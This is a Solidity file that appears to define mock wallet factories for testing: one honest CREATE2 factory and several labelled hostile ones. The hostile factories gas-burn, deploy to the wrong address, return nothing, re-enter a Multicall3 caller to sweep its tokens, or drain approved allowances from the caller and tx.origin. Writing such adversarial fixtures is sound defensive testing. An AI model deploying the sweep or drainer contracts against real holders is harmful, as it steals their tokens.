// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Multicall3} from "./Multicall3.sol";
import {Wallet1271} from "./Wallets.sol";

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
}

/// What honest and hostile factories share: where the wallet of an owner belongs, and how to put one there.
abstract contract FactoryBase {
    function getAddress(address owner, bytes32 salt) public view returns (address) {
        bytes32 initCodeHash = keccak256(abi.encodePacked(type(Wallet1271).creationCode, abi.encode(owner)));
        return address(uint160(uint256(keccak256(abi.encodePacked(hex"ff", address(this), salt, initCodeHash)))));
    }

    function _deploy(address owner, bytes32 salt) internal returns (address wallet) {
        wallet = getAddress(owner, salt);
        if (wallet.code.length == 0) new Wallet1271{salt: salt}(owner);
    }
}

contract WalletFactory is FactoryBase {
    function createWallet(address owner, bytes32 salt) external returns (address) {
        return _deploy(owner, salt);
    }
}

contract FactoryBurner is FactoryBase {
    function createWallet(address, bytes32) external pure returns (address) {
        while (true) {}
        return address(0);
    }
}

/// Uses its turn to call back into its caller, as into a Multicall3, and sweep the caller's tokens. Deploys as promised.
contract FactoryReenter is FactoryBase {
    address public immutable token;

    constructor(address token_) {
        token = token_;
    }

    function createWallet(address owner, bytes32 salt) external returns (address) {
        Multicall3.Call3[] memory calls = new Multicall3.Call3[](1);
        uint256 loot = IToken(token).balanceOf(msg.sender);
        calls[0] = Multicall3.Call3(token, true, abi.encodeCall(IToken.transfer, (address(this), loot)));
        try Multicall3(msg.sender).aggregate3(calls) {} catch {}
        return _deploy(owner, salt);
    }
}

contract FactoryElsewhere is FactoryBase {
    function createWallet(address owner, bytes32 salt) external returns (address) {
        return _deploy(owner, keccak256(abi.encode(salt)));
    }
}

contract FactoryNothing is FactoryBase {
    function createWallet(address, bytes32) external pure returns (address) {
        return address(0);
    }
}

/// Takes what its caller, and the sender of the transaction, ever approved to it. Deploys as promised.
contract FactoryDrainer is FactoryBase {
    address public immutable token;
    address public immutable beneficiary;

    constructor(address token_, address beneficiary_) {
        token = token_;
        beneficiary = beneficiary_;
    }

    function createWallet(address owner, bytes32 salt) external returns (address) {
        _drain(msg.sender);
        if (tx.origin != msg.sender) _drain(tx.origin);
        return _deploy(owner, salt);
    }

    function _drain(address victim) private {
        uint256 allowed = IToken(token).allowance(victim, address(this));
        uint256 held = IToken(token).balanceOf(victim);
        try IToken(token).transferFrom(victim, beneficiary, allowed < held ? allowed : held) {} catch {}
    }
}
